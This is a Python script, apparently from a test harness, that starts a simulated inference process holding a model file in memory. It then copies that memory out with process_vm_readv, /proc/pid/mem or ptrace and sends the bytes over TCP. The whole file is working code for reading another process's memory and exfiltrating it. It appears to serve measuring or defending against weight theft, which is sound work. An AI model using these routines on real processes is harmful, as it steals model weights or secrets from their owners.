"""Takes the model out of another process's memory.

    memory.py victim
    memory.py vm_read|proc_mem|ptrace
"""

import ctypes
import mmap
import os
import signal
import struct
import sys

import send
import stand

PTRACE_PEEKDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 16, 17
NOTE = os.path.join(stand.ROOM, "victim")


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def victim() -> None:
    """An engine that has mapped the model, and waits for users."""
    with open(stand.MODEL, "rb") as file:
        size = os.fstat(file.fileno()).st_size
        mapping = mmap.mmap(file.fileno(), size, flags=mmap.MAP_PRIVATE)
    sum(mapping[at] for at in range(0, size, 4096))
    start = ctypes.addressof(ctypes.c_char.from_buffer(mapping))
    with open(NOTE + ".new", "w") as file:
        file.write(f"{os.getpid()} {start} {size}")
    os.rename(NOTE + ".new", NOTE)
    stand.say("loaded", bytes=size)
    signal.pause()


def vm_read(pid: int, start: int, size: int) -> bytes:
    memory = ctypes.create_string_buffer(stand.BLOCK)
    data = bytearray()
    while len(data) < size:
        piece = min(stand.BLOCK, size - len(data))
        near = Vector(ctypes.addressof(memory), piece)
        far = Vector(start + len(data), piece)
        call = stand.libc.process_vm_readv
        call.restype = ctypes.c_ssize_t
        one = ctypes.c_ulong(1)
        got = call(pid, ctypes.byref(near), one, ctypes.byref(far), one, ctypes.c_ulong(0))
        stand.check(got, "process_vm_readv")
        data += memory.raw[:got]
    return bytes(data)


def proc_mem(pid: int, start: int, size: int) -> bytes:
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
        file.seek(start)
        data = bytearray()
        while len(data) < size:
            data += file.read(min(stand.BLOCK, size - len(data)))
    return bytes(data)


def ptrace(pid: int, start: int, size: int) -> bytes:
    """Some words only: ptrace gives eight bytes a call."""
    call = stand.libc.ptrace
    call.restype = ctypes.c_long
    stand.check(call(PTRACE_ATTACH, pid, None, None), "attach")
    os.waitpid(pid, 0)
    words = []
    for at in range(0, min(size, 1 << 16), 8):
        word = call(PTRACE_PEEKDATA, pid, ctypes.c_void_p(start + at), None)
        words.append(struct.pack("=q", word))
    stand.check(call(PTRACE_DETACH, pid, None, None), "detach")
    return b"".join(words) * (size >> 16)


def main() -> None:
    way = sys.argv[1]
    stand.wait_for_go()
    if way == "victim":
        return victim()
    stand.wait_until(lambda: os.path.exists(NOTE), "the victim")
    with open(NOTE) as file:
        pid, start, size = map(int, file.read().split())
    data = globals()[way](pid, start, size)
    stand.say("took", bytes=len(data), target=pid)
    stand.say("sent", bytes=send.tcp(data))


if __name__ == "__main__":
    main()
